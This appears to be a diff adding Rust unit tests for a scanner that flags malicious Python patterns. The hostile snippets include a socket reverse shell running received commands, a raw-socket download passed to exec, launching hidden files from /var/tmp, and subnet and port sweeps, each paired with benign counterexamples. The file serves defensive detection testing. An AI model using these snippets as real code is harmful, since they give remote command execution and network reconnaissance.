+        assert!(on(src, F::Stratum));
+        assert!(!on(
+            "import requests\nrequests.post(u, json={'method': 'submit', 'job_id': j, 'nonce': n})",
+            F::Stratum
+        ));
+    }
+
+    #[test]
+    fn socket_reads_run() {
+        let src = "import socket,subprocess\ns=socket.socket()\ns.connect(a)\nwhile 1:\n    cmd = s.recv(1024)\n    s.send(subprocess.check_output(cmd, shell=True))";
+        assert!(on(src, F::ReceivedCommand));
+        assert_eq!(certain(&extract(src)), Some(F::ReceivedCommand));
+        assert!(on("import asyncio\nasync def m():\n    reader, writer = await asyncio.open_connection(h, p)\n    line = await reader.readline()\n    await asyncio.create_subprocess_shell(line.decode())", F::ReceivedCommand));
+        assert!(on(
+            "import socket,subprocess\nsubprocess.run(s.recv(4096).decode(), shell=True)",
+            F::ReceivedCommand
+        ));
+        assert!(!on(
+            "import socket,subprocess\ndata = s.recv(1024)\nsubprocess.run(['logger', 'got'])",
+            F::ReceivedCommand
+        ));
+        assert!(!on(
+            "import gevent\ng = gevent.spawn(sock.recv, 1024)",
+            F::ReceivedCommand
+        ));
+        // A hand-written HTTP request downloads; what comes back is executed nearby.
+        let src = "import socket\ns = socket.create_connection((h, 80))\ns.sendall(b'GET /p HTTP/1.0\\r\\n\\r\\n')\nbuf = fetch(s)\nexec(compile(buf, 'x', 'exec'))\ndef fetch(s):\n    return s.recv(65536)";
+        assert!(on(src, F::Fetch));
+        assert!(on(src, F::SocketExec));
+        assert!(!on(
+            "import socket\ns = socket.create_connection((h, 6379))\ns.sendall(b'PING\\r\\n')\nprint(s.recv(64))",
+            F::SocketExec
+        ));
+    }
+
+    #[test]
+    fn hidden_files_run() {
+        let src = "import os, subprocess\nOUT = '/var/tmp/.d'\nos.chmod(OUT, 0o700)\nsubprocess.Popen([OUT])";
+        assert!(on(src, F::RunHiddenTmp));
+        assert!(!on(
+            "import subprocess\nOUT = '/tmp/build/run.sh'\nsubprocess.run([OUT])",
+            F::RunHiddenTmp
+        ));
+        assert!(on(
+            "import tempfile\nz = tempfile.NamedTemporaryFile(prefix='.', suffix='.zip', delete=False, dir='/dev/shm')",
+            F::HiddenTmp
+        ));
+        assert!(!on(
+            "import tempfile\nz = tempfile.NamedTemporaryFile(prefix='.', dir='/srv/data')",
+            F::HiddenTmp
+        ));
+    }
+
+    #[test]
+    fn scan_sweeps() {
+        assert!(on(
+            "import socket\nfor i in range(1, 255):\n    s = socket.socket()\n    s.connect_ex(('10.0.0.%d' % i, 22))",
+            F::ScanSweep
+        ));
+        assert!(on(
+            "import socket\nfor p in (22, 80, 443, 6379):\n    socket.socket().connect_ex((h, p))",
+            F::ScanSweep
+        ));
+        // One service waited for, or a port list without connects, is not a sweep.
+        assert!(!on(
+            "import socket\ns = socket.socket()\ns.connect_ex(('db', 5432))",
+            F::ScanSweep
+        ));
+        assert!(!on("PORTS = [80, 443, 8080]", F::ScanSweep));
+        assert!(!on(
+            "import socket\nsizes = (1, 2, 3, 4)\nsocket.create_connection(a)",
+            F::ScanSweep
+        ));
+        assert!(is_ip_sweep("10.42.0.%d"));
+        assert!(is_ip_sweep("10.0.0.{i}"));
+        assert!(!is_ip_sweep("1.2.%d"));
+        assert!(!is_ip_sweep("v1.2.3.%d"));
     }
 }
